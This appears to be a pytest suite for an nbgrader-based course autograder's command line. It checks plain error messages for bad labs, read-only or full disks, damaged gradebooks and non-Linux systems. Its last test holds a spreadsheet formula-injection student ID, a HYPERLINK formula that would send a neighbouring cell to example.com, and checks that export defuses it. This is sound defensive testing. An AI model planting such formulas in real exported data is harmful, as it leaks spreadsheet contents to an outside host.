"""The command line: commands that only need to answer (help, a wrong lab, a wrong folder) answer at once (they
never import nbgrader, whose import alone takes seconds); a course folder it may not write to is said plainly."""
import csv
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

PROBE = """
import contextlib, io, sys
from autograder.cli import main
with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()) as err:
    try:
        code = main({argv!r})
    except SystemExit as exit:
        code = exit.code
print(code, "nbgrader" in sys.modules, err.getvalue().strip().splitlines()[-1] if err.getvalue().strip() else "")
"""


@pytest.mark.parametrize("argv, code, says", [
    (["--help"], 0, ""),
    (["grade", "lab0_nothing"], 2, "There is no lab called 'lab0_nothing'"),
    (["feedback", "lab0_nothing"], 2, "There is no lab called 'lab0_nothing'"),
    (["release", "lab1_initialization", "lab0_nothing"], 2, "There is no lab called 'lab0_nothing'"),
    (["--root", "/nonexistent", "grade", "lab1_initialization"], 2, "is not a course directory"),
    (["grade"], 2, "the following arguments are required: LAB"),
])
def test_quick_answers_do_not_import_nbgrader(argv, code, says):
    result = subprocess.run([sys.executable, "-c", PROBE.format(argv=argv)], capture_output=True, text=True,
                            check=True)
    returned, imported, message = result.stdout.strip().split(" ", 2) if says else (*result.stdout.split(), "")
    assert int(returned) == code and imported == "False" and says in message


def test_submissions_in_the_wrong_place_are_named_with_where_they_belong(tmp_path):
    from autograder.course import Course
    lab = "lab1_initialization"
    course = Course(tmp_path)
    for path in (f"submitted/bob/{lab}.ipynb", f"submitted/{lab}/{lab}.ipynb", f"submitted/{lab}.ipynb",
                 f"submitted/alice/{lab}/{lab}.ipynb"):
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text("{}")
    assert course.students(lab) == ["alice"]
    assert course.misplaced(lab) == [
        f"submitted/bob/{lab}.ipynb is one level too shallow: move it to submitted/bob/{lab}/{lab}.ipynb",
        f"submitted/{lab}/ has no student folder around it: expected submitted/<student>/{lab}/{lab}.ipynb",
        f"submitted/{lab}.ipynb has no student folder: expected submitted/<student>/{lab}/{lab}.ipynb"]


def test_the_grade_table_keeps_its_columns_with_names_in_any_script():
    from autograder.cli import display_width, format_table
    names = ["李雷", "josé.garcía", "jose\u0301.garci\u0301a", "student000"]  # accents composed, then combining
    table = format_table(["student", "score", "status"], [[n, "13 / 21", "graded"] for n in names])
    rows = table.splitlines()[2:]
    status_column = {display_width(row[:row.index("graded")]) for row in rows}
    assert len(status_column) == 1, table  # "graded" starts in the same terminal column on every row
    assert display_width("李雷") == 4 and display_width("josé") == display_width("jose\u0301") == 4


def test_the_grade_table_rules_its_last_column_as_wide_as_its_name_and_keeps_a_skipped_rows_detail():
    from autograder.cli import outcome_table
    from autograder.records import Outcome
    long = "cell 12 (forward_propagation) was stopped at its time limit (5 s); " * 6
    kept = Outcome("dan", "lab1", "timeout", long.rstrip("; "), 13.0, 21.0)
    kept.skipped = True
    table = outcome_table([kept, Outcome("eve", "lab1", "graded", "", 21.0, 21.0)])
    header, rule, dan, eve = table.splitlines()
    assert rule.endswith("  ------") and len(rule) < 60, table  # the separator does not wrap on an 80-column terminal
    assert dan.endswith("timeout  unchanged since last run; " + long.rstrip("; ")), table  # still says why
    assert eve.endswith("graded"), table


def run_on_read_only_mount(root: Path, command: list[str]) -> subprocess.CompletedProcess:
    """``python -m autograder ... command`` with the course folder ``root`` mounted read-only (as root only)."""
    script = (f"mount --bind -o ro {shlex.quote(str(root))} {shlex.quote(str(root))} && exec "
              + shlex.join([sys.executable, "-m", "autograder", "--root", str(root), *command]))
    result = subprocess.run(["unshare", "-m", "sh", "-c", script], capture_output=True, text=True)
    if "mount:" in result.stderr or "unshare" in result.stderr:  # e.g. the suite does not run as root
        pytest.skip(f"cannot mount the course read-only here: {result.stderr.strip()}")
    return result


@pytest.mark.parametrize("command", [["release", "lab1_initialization"], ["feedback", "lab1_initialization"]])
def test_a_course_folder_the_command_may_not_write_to_is_said_plainly(tmp_path, command):
    """A course folder mounted read-only (or owned by another account): an error that says what to do, no traceback."""
    from autograder.course import Course
    from autograder.demo import scratch_course
    root = scratch_course(Course(Path(__file__).resolve().parents[1]), tmp_path / "course",
                          ["lab1_initialization"]).root
    result = run_on_read_only_mount(root, command)
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert f"may not use {root}/" in result.stderr and "(Read-only file system)" in result.stderr
    assert f"writes into the course folder {root}: run it as the account that owns the folder" in result.stderr


def test_a_gradebook_on_a_read_only_mount_is_said_to_be_so_not_to_need_chmod(tmp_path):
    from autograder.course import Course
    from autograder.demo import scratch_course
    from nbgrader.api import Gradebook
    course = scratch_course(Course(Path(__file__).resolve().parents[1]), tmp_path / "course", ["lab1_initialization"])
    Gradebook(course.db_url()).close()
    result = run_on_read_only_mount(course.root, ["release", "lab1_initialization"])
    assert result.returncode == 2 and result.stderr == (
        f"error: Cannot write the lab's cells to {course.root}/gradebook.db: its file system is mounted read-only. "
        "Work in a copy of the course on a disk you may write to, or have it mounted read-write, then run the command "
        "again.\n")


@pytest.mark.parametrize("command, written", [(["export", "--out", "{out}/grades.csv"], ["grades.csv"]),
                                              (["report", "lab1_initialization", "--out", "{out}"],
                                               ["lab1_initialization.csv", "lab1_initialization.html"])])
def test_a_full_disk_is_said_plainly_and_leaves_the_files_before_whole(tmp_path, command, written):
    """Written once, then again on a disk filled up in between: a plain error, and what the first run wrote intact."""
    from autograder.course import Course
    from released import released_course
    from autograder.submissions import submit, untouched
    course = released_course(Course(Path(__file__).resolve().parents[1]), tmp_path / "course",
                             ["lab1_initialization"])  # released (a copy of the process's one release), nothing graded yet
    submit(course, "ana", "lab1_initialization", untouched(course, "lab1_initialization"))  # a row to export
    out = tmp_path / "out"
    out.mkdir()
    run = shlex.join([sys.executable, "-m", "autograder", "--root", str(course.root),
                      *[part.format(out=out) for part in command]])
    folder, files = shlex.quote(str(out)), shlex.join(str(out / name) for name in written)
    script = (f"mount -t tmpfs -o size=64k tmpfs {folder} && {run} >/dev/null && cat {files} && "
              f"head -c 65536 /dev/zero > {folder}/fill; {run}; status=$?; echo ===; cat {files}; "
              f"echo ===; ls -A {folder}; exit $status")  # the files after the second run, and what the disk holds
    result = subprocess.run(["unshare", "-m", "sh", "-c", script], capture_output=True, text=True)
    if "mount:" in result.stderr or "unshare" in result.stderr:  # e.g. the suite does not run as root
        pytest.skip(f"cannot mount a small filesystem here: {result.stderr.strip()}")
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert f"error: {command[0]} could not write {out / written[0]}: No space left on device (the disk is full, or " \
           "your quota is used up). Free some space, then run it again." in result.stderr
    before, after, listing = result.stdout.split("===\n")
    assert before.strip() and after == before, "the files of the first run were not kept whole"
    assert listing.split() == sorted(["fill", *written]), "a half-written file was left"


@pytest.mark.parametrize("command", [["release", "lab1_initialization"], ["grade", "lab1_initialization"],
                                     ["export"], ["doctor"]])
def test_a_damaged_gradebook_is_said_plainly(tmp_path, command):
    """gradebook.db overwritten by another file (or cut short by a copy): what to do, not nbgrader's traceback."""
    from autograder.course import Course
    from autograder.demo import scratch_course
    course = scratch_course(Course(Path(__file__).resolve().parents[1]), tmp_path / "course", ["lab1_initialization"])
    (course.root / "gradebook.db").write_text("student_id,lab,total\n")
    result = subprocess.run([sys.executable, "-m", "autograder", "--root", str(course.root), *command],
                            capture_output=True, text=True)
    said = f"The gradebook {course.root / 'gradebook.db'} cannot be opened: file is not a database. If it is " \
           "damaged or not a gradebook, restore it from a backup (or move it away to start an empty one)"
    if command == ["doctor"]:
        assert result.returncode == 1 and f"[PROBLEM] {said}" in result.stdout, result.stdout + result.stderr
    else:
        assert result.returncode == 2 and result.stderr.startswith(f"error: {said}"), result.stderr
    assert (course.root / "gradebook.db").read_text() == "student_id,lab,total\n"


PRETEND = "import runpy, sys\nsys.platform = {platform!r}\nsys.argv = ['autograder', *{argv!r}]\n" \
          "runpy.run_module('autograder', run_name='__main__')"


@pytest.mark.parametrize("platform, argv, name", [("darwin", ["demo"], "demo"),
                                                  ("darwin", ["grade", "lab1_initialization"], "grade"),
                                                  ("win32", ["export"], "python -m autograder")])
def test_a_system_other_than_linux_is_told_where_to_run_the_commands_that_need_linux(platform, argv, name):
    """A first try on a laptop: macOS (where grading would end in a traceback deep in /proc or prctl) and Windows
    (where the commands' modules do not even import), told apart here by ``sys.platform`` alone, as the kit does."""
    root = Path(__file__).resolve().parents[1]
    result = subprocess.run([sys.executable, "-c", PRETEND.format(platform=platform, argv=["--root", str(root), *argv])],
                            capture_output=True, text=True)
    system = {"darwin": "macOS", "win32": "Windows"}[platform]
    assert result.returncode != 0 and "Traceback" not in result.stderr, result.stderr
    assert result.stderr.startswith(f"error: {name} runs students' notebooks in Linux's process isolation") and \
        f"so it needs Linux, and this is {system}. Run it on a Linux server" in result.stderr, result.stderr


def test_a_solution_cell_without_markers_is_named_when_its_lab_is_released(tmp_path):
    """An instructor who took the markers out of Lab 3's softmax: nbgrader blanks the whole cell, whose short
    ``return probs`` the leak check then found in a test's ``return probs.copy()``; the refusal named that test's cell
    alone, not the cell without markers."""
    import nbformat
    from autograder.course import Course
    from autograder.demo import scratch_course
    from autograder.leaks import cell_label
    lab = "lab3_loss_functions"
    course = scratch_course(Course(Path(__file__).resolve().parents[1]), tmp_path, [lab])
    nb = nbformat.read(course.source_notebook(lab), as_version=4)
    index, cell = next((i, c) for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id")
                       == "softmax")
    cell.source = "\n".join(line for line in cell.source.splitlines() if "SOLUTION" not in line)
    label = cell_label(cell, index)
    nbformat.write(nb, course.source_notebook(lab))
    result = subprocess.run([sys.executable, "-m", "autograder", "--root", str(course.root), "release", lab],
                            capture_output=True, text=True)
    assert "Traceback" not in result.stderr, result.stderr
    assert result.returncode == 1 and f"note: {label} is a solution cell without ### BEGIN SOLUTION / ### END " \
           "SOLUTION: nbgrader blanks all of it" in " ".join(result.stdout.split()), result.stdout


def test_a_python_without_the_kits_requirements_is_told_to_activate_the_environment_the_kit_is_in(tmp_path):
    """A new terminal, the virtual environment not activated: ``python3 -m autograder`` in the course folder finds the
    kit's code there, not what it imports. Before, a ModuleNotFoundError's traceback."""
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(tmp_path / "bare")], check=True)
    python = tmp_path / "bare" / "bin" / "python"
    result = subprocess.run([str(python), "-m", "autograder", "export"], cwd=Path(__file__).resolve().parents[1],
                            capture_output=True, text=True)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert result.stderr.startswith(f"error: this Python ({python}) does not have what the kit needs (no module named ")
    assert "activate the virtual environment you installed the kit in" in result.stderr
    assert f"`{python} -m pip install -e .` in the course folder." in result.stderr


def test_a_file_out_of_the_course_it_may_not_write_says_to_choose_another_place(tmp_path):
    from autograder.cli import permission_problem
    denied = PermissionError(13, "Permission denied", "/etc/grades.csv")
    assert permission_problem(denied, tmp_path, "export") == (
        "export may not use /etc/grades.csv (Permission denied): choose a place you may write to, then run it again.")


@pytest.mark.skipif(shutil.which("taskset") is None, reason="needs util-linux's taskset")
def test_more_workers_than_usable_cores_are_warned_about(tmp_path):
    from autograder.course import Course
    from autograder.demo import scratch_course
    root = scratch_course(Course(Path(__file__).resolve().parents[1]), tmp_path, ["lab1_initialization"]).root
    result = subprocess.run(["taskset", "-c", "0", sys.executable, "-m", "autograder", "--root", str(root), "grade",
                             "lab1_initialization", "--workers", "3"], capture_output=True, text=True)
    assert "warning: --workers 3 on 1 usable core(s): each notebook runs about 3.0x slower than the canary" \
        in result.stderr


@pytest.mark.parametrize("command", [["export"], ["report", "lab1_initialization"]])
def test_tables_of_a_course_with_no_gradebook_yet_say_what_to_do_first(tmp_path, command):
    from autograder.course import Course
    from autograder.demo import scratch_course
    root = scratch_course(Course(Path(__file__).resolve().parents[1]), tmp_path, ["lab1_initialization"]).root
    result = subprocess.run([sys.executable, "-m", "autograder", "--root", str(root), *command], capture_output=True,
                            text=True)
    assert result.returncode == 2 and "This course has no gradebook yet" in result.stderr, result.stderr
    assert "Release a lab" in result.stderr and not (root / "gradebook.db").exists()


def test_feedback_report_and_export_of_a_lab_not_released_say_to_release_and_grade_it_first(tmp_path):
    """Lab 1 released, Lab 3 handed out by hand (its release/ is in the repository) but never released into the
    gradebook: its feedback, report and export say so, and what to run, instead of writing nothing (or a table
    without rows, over the last one) and succeeding."""
    from autograder.course import Course
    from autograder.demo import scratch_course
    from autograder.release import release_lab
    root = scratch_course(Course(Path(__file__).resolve().parents[1]), tmp_path,
                          ["lab1_initialization", "lab3_loss_functions"]).root
    lab = "lab3_loss_functions"
    folder = root / "submitted" / "ana" / lab
    folder.mkdir(parents=True)
    shutil.copy(Path(__file__).resolve().parents[1] / "release" / lab / f"{lab}.ipynb", folder)

    def run(*command):
        return subprocess.run([sys.executable, "-m", "autograder", "--root", str(root), *command], capture_output=True,
                              text=True)
    said = run("feedback", lab)  # no gradebook at all yet: none is created
    assert said.returncode == 2 and f"{lab} has not been released into the gradebook yet" in said.stderr, said.stderr
    assert not (root / "gradebook.db").exists()
    assert release_lab(Course(root), "lab1_initialization") == []
    (root / "grades.csv").write_text("the table uploaded last week\n")
    for command in (["feedback", lab, "--allow-pending"], ["report", lab], ["export", lab]):
        said = run(*command)
        assert said.returncode == 2 and "Traceback" not in said.stderr, said.stderr
        course = Course(root)  # run from another folder: the commands name the course
        assert f"Release it (`{course.command('release', lab)}`), grade it (`{course.command('grade', lab)}`), " \
               f"then run `{course.command(command[0], lab)}` again." in said.stderr
    assert not (root / "feedback").exists() and not (root / "reports").exists()
    said = run("export", "lab1_initialization")  # released, but nobody submitted it
    assert said.returncode == 2 and "No student has submitted lab1_initialization yet" in said.stderr, said.stderr
    assert f"{root / 'grades.csv'} was left as it was" in said.stderr
    assert (root / "grades.csv").read_text() == "the table uploaded last week\n"


def test_a_course_whose_path_nbgrader_would_read_as_a_pattern_is_refused_saying_why(tmp_path):
    root = tmp_path / "Redes neuronales [2026-1]"
    root.mkdir()
    (root / "nbgrader_config.py").write_text("")
    result = subprocess.run([sys.executable, "-m", "autograder", "--root", str(root), "release", "lab1_initialization"],
                            capture_output=True, text=True)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert f"The course folder's path {root} contains '[', which nbgrader reads as a pattern when it looks for " \
           "notebooks (so it would find none). Rename that folder" in result.stderr


def test_release_check_still_compares_release_with_source_when_the_gradebook_cannot_be_opened(tmp_path, capsys):
    """CI runs ``release --check`` with no gradebook or one it cannot open: release/ is compared, and it says the
    gradebook's tests were not."""
    from autograder.cli import main
    from autograder.course import Course
    from released import released_course
    lab = "lab1_initialization"
    # released: a copy of the process's one release of the lab
    course = released_course(Course(Path(__file__).resolve().parents[1]), tmp_path / "course", [lab])
    (course.root / "gradebook.db").write_text("not a database")
    assert main(["--root", str(course.root), "release", "--check", lab]) == 0
    out, err = capsys.readouterr()
    assert out == f"{lab}: in sync with source/\n"
    assert err.startswith("note: the gradebook's tests are not compared with source/: The gradebook ") and \
        "cannot be opened: file is not a database" in err


def test_a_student_id_a_spreadsheet_would_run_as_a_formula_is_exported_as_text_with_a_warning(tmp_path):
    """A folder name from an LMS is the student's display name (Moodle): one that starts with = would be run by the
    spreadsheet the instructor opens grades.csv in."""
    from autograder.course import Course
    from autograder.submissions import submit, untouched
    from released import released_course
    lab = "lab1_initialization"
    course = released_course(Course(Path(__file__).resolve().parents[1]), tmp_path / "course", [lab])
    hostile = '=HYPERLINK("https:example.com?"&A1,"ana")'  # a link that sends the cell next to it away
    for student in (hostile, "ana", "-2+3"):
        submit(course, student, lab, untouched(course, lab))
    said = subprocess.run([sys.executable, "-m", "autograder", "--root", str(course.root), "export"],
                          capture_output=True, text=True)
    assert said.returncode == 0, said.stderr
    with open(course.root / "grades.csv", newline="") as table:
        ids = sorted(row["student_id"] for row in csv.DictReader(table))
    assert ids == ["'-2+3", "'" + hostile, "ana"]
    assert (f"warning: 2 student ids in grades.csv start with =, +, -, @ or a tab, which a spreadsheet would run as "
            f"a formula: '-2+3', {hostile!r}. They are written with a ' in front, as text. Check these folder names "
            "in submitted/ before you upload the table.") in said.stderr
